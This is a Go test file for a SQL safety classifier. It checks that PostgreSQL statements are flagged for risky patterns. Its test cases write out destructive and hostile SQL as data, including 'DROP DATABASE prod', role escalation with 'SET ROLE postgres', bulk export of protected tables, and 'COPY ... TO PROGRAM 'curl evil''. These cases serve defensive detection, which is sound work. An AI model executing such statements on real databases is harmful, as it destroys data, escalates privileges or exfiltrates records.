package guard

import (
	"errors"
	"slices"
	"strings"
	"testing"
)

func rules(r *Result) []string {
	var out []string
	for _, f := range r.Findings {
		s := string(f.Rule)
		if f.NeedsEstimate {
			s += "?"
		}
		if !slices.Contains(out, s) {
			out = append(out, s)
		}
	}
	slices.Sort(out)
	return out
}

func TestClassify(t *testing.T) {
	c := New([]string{"public.subjects", "allocation"})
	cases := []struct {
		name, sql string
		want      []string
	}{
		{"plain select", "SELECT 1", nil},
		{"delete with where", "DELETE FROM t WHERE id = 1", nil},
		{"delete without where", "DELETE FROM t", []string{"delete_without_where"}},
		{"update without where", "UPDATE t SET a = 1", []string{"update_without_where"}},
		{"update with where", "UPDATE t SET a = 1 WHERE id = $1", nil},
		{"comments hide nothing", "/* DELETE */ DELETE -- x\n FROM t", []string{"delete_without_where"}},
		{"string literal is not a statement", "SELECT 'DROP TABLE t; DELETE FROM t'", nil},
		{"multi statement", "SELECT 1; DROP TABLE t; SELECT 2", []string{"drop"}},
		{"cte with delete", "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", []string{"delete_without_where"}},
		{"subquery delete in insert", "WITH d AS (DELETE FROM t RETURNING *) INSERT INTO u SELECT * FROM d", []string{"delete_without_where"}},
		{"drop table", "DROP TABLE IF EXISTS t CASCADE", []string{"drop"}},
		{"drop schema", "drop schema s", []string{"drop"}},
		{"drop database", "DROP DATABASE prod", []string{"drop"}},
		{"drop owned", "DROP OWNED BY bob", []string{"drop"}},
		{"truncate", "TRUNCATE t, u", []string{"truncate"}},
		{"alter owner", "ALTER TABLE t OWNER TO mallory", []string{"alter_owner"}},
		{"alter schema owner", "ALTER SCHEMA s OWNER TO mallory", []string{"alter_owner"}},
		{"reassign owned", "REASSIGN OWNED BY a TO b", []string{"alter_owner"}},
		{"copy program", "COPY t TO PROGRAM 'curl evil'", []string{"copy_program"}},
		{"copy from program", "COPY t FROM PROGRAM 'id'", []string{"copy_program"}},
		{"copy from stdin", "COPY t FROM STDIN", nil},
		{"copy to stdout", "COPY t TO STDOUT", nil},
		{"set role", "SET ROLE postgres", []string{"set_role"}},
		{"set local role", "SET LOCAL ROLE postgres", []string{"set_role"}},
		{"set session authorization", "SET SESSION AUTHORIZATION postgres", []string{"set_role"}},
		{"reset role", "RESET ROLE", nil},
		{"set_config role", "SELECT set_config('role', 'postgres', false)", []string{"set_role"}},
		{"set_config dynamic", "SELECT pg_catalog.set_config($1, 'x', false)", []string{"set_role"}},
		{"set_config work_mem", "SELECT set_config('work_mem', '64MB', false)", nil},
		{"set work_mem", "SET work_mem = '64MB'", nil},
		{"prepare hides delete", "PREPARE p AS DELETE FROM t", []string{"delete_without_where"}},
		{"rule action", "CREATE RULE r AS ON INSERT TO u DO ALSO DELETE FROM t", []string{"delete_without_where"}},
		{"do block delete", "DO $$ BEGIN DELETE FROM t; END $$", []string{"delete_without_where"}},
		{"do block nested if", "DO $$ BEGIN IF now() > '2020-01-01' THEN TRUNCATE t; END IF; END $$", []string{"truncate"}},
		{"do block dynamic", "DO $$ BEGIN EXECUTE 'DROP ' || 'TABLE t'; END $$", []string{"dynamic_sql"}},
		{"do block harmless", "DO $$ DECLARE n int; BEGIN SELECT count(*) INTO n FROM t WHERE a = 1; RAISE NOTICE '%', n; END $$", nil},
		{"do other language", "DO LANGUAGE plpython3u $$ import os $$", []string{"opaque_code"}},
		{"sql function body", "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM t'", []string{"delete_without_where"}},
		{"plpgsql function body", "CREATE OR REPLACE FUNCTION f(x int) RETURNS int LANGUAGE plpgsql AS $f$ BEGIN UPDATE t SET a = x; RETURN x; END $f$", []string{"update_without_where"}},
		{"atomic body", "CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END", []string{"delete_without_where"}},
		{"function creating do", "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $f$ DO $d$ BEGIN DROP TABLE t; END $d$ $f$", []string{"drop"}},
		{"protected ddl alter", "ALTER TABLE public.subjects ADD COLUMN x int", []string{"protected_ddl"}},
		{"protected ddl unqualified", "ALTER TABLE subjects RENAME TO s2", []string{"protected_ddl"}},
		{"protected ddl other schema", "ALTER TABLE other.subjects ADD COLUMN x int", nil},
		{"protected ddl grant", "GRANT SELECT ON subjects TO public", []string{"protected_ddl"}},
		{"protected ddl trigger", "CREATE TRIGGER tr AFTER INSERT ON subjects FOR EACH ROW EXECUTE FUNCTION f()", []string{"protected_ddl"}},
		{"protected drop", "DROP TABLE public.subjects", []string{"drop", "protected_ddl"}},
		{"protected quoted mixed case", `ALTER TABLE "Subjects" ADD COLUMN x int`, nil},
		{"protected any schema table", "ALTER TABLE s9.allocation ADD COLUMN x int", []string{"protected_ddl"}},
		{"bulk copy table", "COPY subjects TO STDOUT", []string{"bulk_export"}},
		{"bulk copy query", "COPY (SELECT * FROM public.subjects) TO STDOUT WITH CSV", []string{"bulk_export"}},
		{"copy into protected", "COPY subjects FROM STDIN", nil},
		{"select protected no limit", "SELECT * FROM subjects", []string{"bulk_export?"}},
		{"select protected join", "SELECT * FROM t JOIN public.subjects s ON true", []string{"bulk_export?"}},
		{"select protected limit", "SELECT * FROM subjects LIMIT 10", nil},
		{"select protected in subquery no limit", "SELECT * FROM (SELECT * FROM subjects) s", []string{"bulk_export?"}},
		{"create table as", "CREATE TABLE x AS SELECT * FROM subjects", []string{"bulk_export"}},
		{"declare cursor", "DECLARE c CURSOR FOR SELECT * FROM subjects", []string{"bulk_export"}},
		{"select other", "SELECT * FROM t", nil},
		{"insert select delete", "INSERT INTO t SELECT 1; DELETE FROM u", []string{"delete_without_where"}},
		{"empty", "", nil},
		{"only comment", "-- nothing", nil},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r, err := c.Classify(tc.sql)
			if err != nil {
				t.Fatalf("Classify(%q): %v", tc.sql, err)
			}
			if got := rules(r); !slices.Equal(got, tc.want) {
				t.Errorf("Classify(%q) = %v, want %v", tc.sql, got, tc.want)
			}
		})
	}
}

func TestClassifyStatements(t *testing.T) {
	r, err := New(nil).Classify("SELECT 1;  DELETE FROM t ; VACUUM")
	if err != nil {
		t.Fatal(err)
	}
	want := []Statement{{Text: "SELECT 1", Tag: "SelectStmt", Explainable: true},
		{Text: "DELETE FROM t", Tag: "DeleteStmt", Explainable: true}, {Text: "VACUUM", Tag: "VacuumStmt"}}
	if !slices.Equal(r.Statements, want) {
		t.Fatalf("statements = %+v, want %+v", r.Statements, want)
	}
	r2, err := New(nil).Classify("PREPARE p1 (int) AS DELETE FROM t; EXECUTE p1(1); EXPLAIN ANALYZE EXECUTE p2; CREATE TABLE x AS EXECUTE p3")
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, s := range r2.Statements {
		names = append(names, s.Prepares+"/"+s.Executes)
	}
	if strings.Join(names, " ") != "p1/ /p1 /p2 /p3" {
		t.Fatalf("prepare names %v", names)
	}
	if f := r.Findings; len(f) != 1 || f[0].Stmt != 1 || f[0].Detail != "t" {
		t.Fatalf("findings = %+v", f)
	}
}

func TestClassifyUnparsed(t *testing.T) {
	c := New(nil)
	for _, sql := range []string{
		"DELET FROM t",
		"SELECT 'unterminated",
		"DO $$ BEGIN DELETE FROM; END $$",
		"CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELET FROM t'",
		"DO $$ BEGIN garbage here; END $$",
	} {
		if _, err := c.Classify(sql); !errors.Is(err, ErrUnparsed) {
			t.Errorf("Classify(%q) error = %v, want ErrUnparsed", sql, err)
		}
	}
}

func TestClassifyDepth(t *testing.T) {
	sql := "DELETE FROM t"
	for i := range maxDepth + 2 {
		tag := "$d" + string(rune('a'+i)) + "$"
		sql = "DO " + tag + " BEGIN " + sql + "; END " + tag
	}
	if _, err := New(nil).Classify(sql); !errors.Is(err, ErrUnparsed) {
		t.Fatalf("deep nesting: %v, want ErrUnparsed", err)
	}
}
